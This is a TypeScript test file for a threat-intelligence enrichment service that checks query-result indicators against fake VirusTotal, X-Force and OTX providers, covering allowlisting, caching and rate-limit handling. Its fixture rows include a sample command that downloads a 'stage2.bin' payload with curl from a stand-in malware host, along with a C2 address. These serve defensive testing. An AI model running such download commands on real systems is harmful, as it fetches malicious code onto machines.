import { describe, expect, it } from 'vitest';
import type { ResultColumn, StoredValue } from '../../../engine/types.js';
import type { EntityMapping } from '../../../engine/types.js';
import { createWorld, type World } from './world.js';

const columns: ResultColumn[] = [
  { name: 'TimeGenerated', type: 'datetime' },
  { name: 'SrcIp', type: 'string' },
  { name: 'Url', type: 'string' },
  { name: 'CommandLine', type: 'string' },
  { name: 'Bytes', type: 'long' },
];
const mappings: EntityMapping[] = [
  { entityType: 'IP', fieldMappings: [{ identifier: 'Address', columnName: 'SrcIp' }] },
  { entityType: 'URL', fieldMappings: [{ identifier: 'Url', columnName: 'Url' }] },
];

const C2_IP = '185.220.101.4';
const SCANNER_IP = '45.33.32.156';
const DROP_URL = 'https://malware-drop.net/stage2.bin';
const BAD_HASH = '44d88612fea8a8f36de82e1278abb02f';
const PRIVATE = ['10.1.2.3', '192.168.7.7', 'fd00::7', '203.0.113.9'];
const ALLOWLISTED = ['52.10.20.30', 'intranet.contoso-corp.com', 'https://sso.contoso-corp.com/login'];
const allowlist = { domains: ['contoso-corp.com'], cidrs: ['52.10.0.0/16'] };

const t = '2026-03-10T11:00:00.000Z';
/** Rows 1-3 talk to the C2, row 4 downloads a known-bad file, row 5 is internal traffic only. */
const rows: StoredValue[][] = [
  [t, C2_IP, null, 'beacon', 100],
  [t, C2_IP, DROP_URL, `curl -o x.bin ${DROP_URL}`, 200],
  [t, C2_IP, 'https://sso.contoso-corp.com/login', 'login', 300],
  [t, SCANNER_IP, null, `certutil -hashfile x.bin md5 -> ${BAD_HASH}`, 400],
  [t, '10.1.2.3', 'http://intranet.contoso-corp.com/wiki', 'ping 192.168.7.7 fd00::7 203.0.113.9 52.10.20.30', 500],
];

function knowTheBadOnes(w: World): void {
  w.vt.setAnalysis('ip_addresses', C2_IP, { malicious: 12, harmless: 60, undetected: 18 });
  w.vt.setAnalysis('ip_addresses', SCANNER_IP, { malicious: 0, harmless: 80, undetected: 10 });
  w.vt.setAnalysis('files', BAD_HASH, { malicious: 60, undetected: 10 });
  w.xf.setScore('ip', C2_IP, 9);
  w.xf.setScore('url', 'malware-drop.net', 8);
  w.otx.setPulses('IPv4', C2_IP, 5);
}

describe('enriching a run against the fakes', () => {
  it('stores verdicts per indicator and per row, most severe answer winning', async () => {
    const w = await createWorld();
    knowTheBadOnes(w);
    const service = w.service({ allowlist });
    const runId = w.storeRun(columns, rows, mappings);

    const progress: string[] = [];
    const result = await service.enrichRun(runId, { onProgress: (p) => progress.push(`${p.provider}:${p.indicator.value}`) });

    expect(result).toMatchObject({ runId, rowsScanned: 5 });
    expect(result.providers.map((p) => [p.provider, p.state, p.queued])).toEqual([
      ['virustotal', 'complete', 0], ['xforce', 'complete', 0], ['otx', 'complete', 0],
    ]);
    const v = service.verdictsForRun(runId);
    const verdictOf = (value: string) => v.indicators.find((i) => i.value === value);
    expect(verdictOf(C2_IP)).toMatchObject({ type: 'ipv4', rowCount: 3, verdict: 'malicious', skipReason: null });
    expect(verdictOf(C2_IP)!.lookups.map((l) => [l.provider, l.verdict])).toEqual([
      ['otx', 'malicious'], ['virustotal', 'malicious'], ['xforce', 'malicious'],
    ]);
    expect(verdictOf(C2_IP)!.lookups.find((l) => l.provider === 'virustotal')!.link).toBe(`https://www.virustotal.com/gui/ip-address/${C2_IP}`);
    expect(verdictOf(SCANNER_IP)!.verdict).toBe('harmless');
    expect(verdictOf('malware-drop.net')!.verdict).toBe('malicious');
    expect(verdictOf(BAD_HASH)).toMatchObject({ type: 'md5', verdict: 'malicious' });
    expect(verdictOf('10.1.2.3')).toMatchObject({ skipReason: 'non_public', lookups: [] });
    expect(verdictOf('intranet.contoso-corp.com')).toMatchObject({ skipReason: 'allowlisted', lookups: [] });

    // Row ids are the stored rows' rowids: 1-based, in insertion order.
    expect(v.rows.map((r) => [r.rowId, r.verdict])).toEqual([[1, 'malicious'], [2, 'malicious'], [3, 'malicious'], [4, 'malicious']]);
    expect(v.rows[3]!.indicators).toEqual([`md5:${BAD_HASH}`]);
    expect(service.verdictsForRun(runId, { rowsAtLeast: 'unknown' }).rows.map((r) => r.rowId)).toEqual([1, 2, 3, 4, 5]);
    expect(service.rowsWithIndicator(runId, { type: 'ipv4', value: C2_IP })).toEqual([1, 2, 3]);
    expect(progress.length).toBeGreaterThan(0);
  });

  it('never sends private, reserved or allowlisted indicators to any provider', async () => {
    const w = await createWorld();
    const runId = w.storeRun(columns, rows, mappings);
    await w.service({ allowlist }).enrichRun(runId);

    const sent = w.sentAnywhere();
    expect(sent).toContain(C2_IP);
    expect(w.vt.indicatorsRequested()).toContain(BAD_HASH);
    for (const value of [...PRIVATE, ...ALLOWLISTED, 'http://intranet.contoso-corp.com/wiki', 'contoso-corp.com', 'sso.contoso-corp.com']) {
      expect(sent.filter((s) => s.includes(value))).toEqual([]);
    }
    // Nothing was sent that the run did not hold.
    expect(sent.every((s) => [C2_IP, SCANNER_IP, DROP_URL, 'malware-drop.net', BAD_HASH].includes(s))).toBe(true);
  });

  it('asks the most frequent indicators first and waits for the VirusTotal minute budget', async () => {
    const w = await createWorld();
    const ips = ['91.1.1.1', '91.1.1.2', '91.1.1.3', '91.1.1.4', '91.1.1.5', '91.1.1.6'];
    // 91.1.1.6 appears in 6 rows, 91.1.1.5 in 5 ... 91.1.1.1 in 1.
    const ipRows = ips.flatMap((ip, i) => Array.from({ length: i + 1 }, (): StoredValue[] => [ip]));
    const runId = w.storeRun([{ name: 'Ip', type: 'string' }], ipRows);
    const service = w.service();

    const first = await service.enrichRun(runId, { providers: ['virustotal'], maxQuotaWaitMs: 0 });
    expect(first.providers[0]).toMatchObject({ provider: 'virustotal', state: 'waiting_for_quota', calls: 4, queued: 2 });
    expect(w.vt.indicatorsRequested()).toEqual(['91.1.1.6', '91.1.1.5', '91.1.1.4', '91.1.1.3']);
    expect(service.quotaStatus().find((q) => q.provider === 'virustotal')!.perMinute).toMatchObject({ limit: 4, used: 4, remaining: 0 });

    const second = await service.enrichRun(runId, { providers: ['virustotal'] });
    expect(second.providers[0]).toMatchObject({ state: 'complete', calls: 2, queued: 0, done: 6 });
    expect(w.vt.indicatorsRequested()).toEqual(['91.1.1.6', '91.1.1.5', '91.1.1.4', '91.1.1.3', '91.1.1.2', '91.1.1.1']);
    expect(w.clock.sleeps.length).toBe(1);
  });

  it('answers a re-run within the TTL from the cache, with no calls; asks again once it expires', async () => {
    const w = await createWorld();
    knowTheBadOnes(w);
    const service = w.service({ allowlist, cacheTtlHours: 24, notFoundTtlHours: 1 });
    await service.enrichRun(w.storeRun(columns, rows, mappings));
    const callsAfterFirst = w.sentAnywhere().length;

    const again = await service.enrichRun(w.storeRun(columns, rows, mappings));
    expect(w.sentAnywhere().length).toBe(callsAfterFirst);
    expect(again.providers.every((p) => p.calls === 0 && p.state === 'complete')).toBe(true);
    expect(again.providers.find((p) => p.provider === 'virustotal')!.fromCache).toBe(5);
    expect(service.verdictsForRun(again.runId).indicators.find((i) => i.value === C2_IP)!.verdict).toBe('malicious');

    // After 2 hours only the "not found" answers (VirusTotal's 404s) have expired.
    w.clock.advance(2 * 3_600_000);
    const vtBefore = w.vt.requests.length;
    const xfBefore = w.xf.requests.length;
    await service.enrichRun(w.storeRun(columns, rows, mappings));
    expect(w.vt.indicatorsRequested().slice(vtBefore).sort()).toEqual([DROP_URL, 'malware-drop.net'].sort());
    // X-Force knows neither the hash nor the full URL: their 404s expired too.
    expect(w.xf.indicatorsRequested().slice(xfBefore).sort()).toEqual([BAD_HASH, DROP_URL].sort());

    w.clock.advance(24 * 3_600_000);
    const before = w.sentAnywhere().length;
    await service.enrichRun(w.storeRun(columns, rows, mappings));
    expect(w.sentAnywhere().length - before).toBe(callsAfterFirst);
  });

  it('backs off on a 429, honouring Retry-After, and asks again for the same indicator', async () => {
    const w = await createWorld();
    const { otxThrottled } = await import('../fakes/otx/index.js');
    w.otx.failNext(otxThrottled(30));
    const runId = w.storeRun([{ name: 'Ip', type: 'string' }], [[C2_IP], [C2_IP], [SCANNER_IP]]);
    const result = await w.service().enrichRun(runId, { providers: ['otx'] });

    expect(result.providers[0]).toMatchObject({ state: 'complete', calls: 3, done: 2, queued: 0 });
    expect(w.otx.requests.map((r) => [r.indicator, r.status])).toEqual([[C2_IP, 429], [C2_IP, 200], [SCANNER_IP, 200]]);
    expect(w.clock.sleeps).toEqual([30_000]);
  });

  it('stops at a long 429 backoff with the lookup still queued, and resumes from there later', async () => {
    const w = await createWorld();
    const { vtQuotaExceeded } = await import('../fakes/virustotal/index.js');
    w.vt.failNext(vtQuotaExceeded(3600));
    const runId = w.storeRun([{ name: 'Ip', type: 'string' }], [[C2_IP]]);
    const service = w.service();
    const first = await service.enrichRun(runId, { providers: ['virustotal'] });
    expect(first.providers[0]).toMatchObject({ state: 'waiting_for_quota', queued: 1, retryAt: '2026-03-10T13:00:00.000Z' });
    expect(service.quotaStatus()[0]!.blockedUntil).toBe('2026-03-10T13:00:00.000Z');
    expect(service.verdictsForRun(runId).indicators[0]!.lookups[0]).toMatchObject({ state: 'queued', attempts: 1 });
    expect(service.verdictsForRun(runId).indicators[0]!.lookups[0]!.error).toMatch(/VirusTotal: rate limited \(QuotaExceededError/);

    w.clock.advance(3_600_000);
    const second = await service.enrichRun(runId, { providers: ['virustotal'] });
    expect(second.providers[0]).toMatchObject({ state: 'complete', queued: 0, done: 1 });
    expect(w.vt.indicatorsRequested()).toEqual([C2_IP, C2_IP]);
  });
});
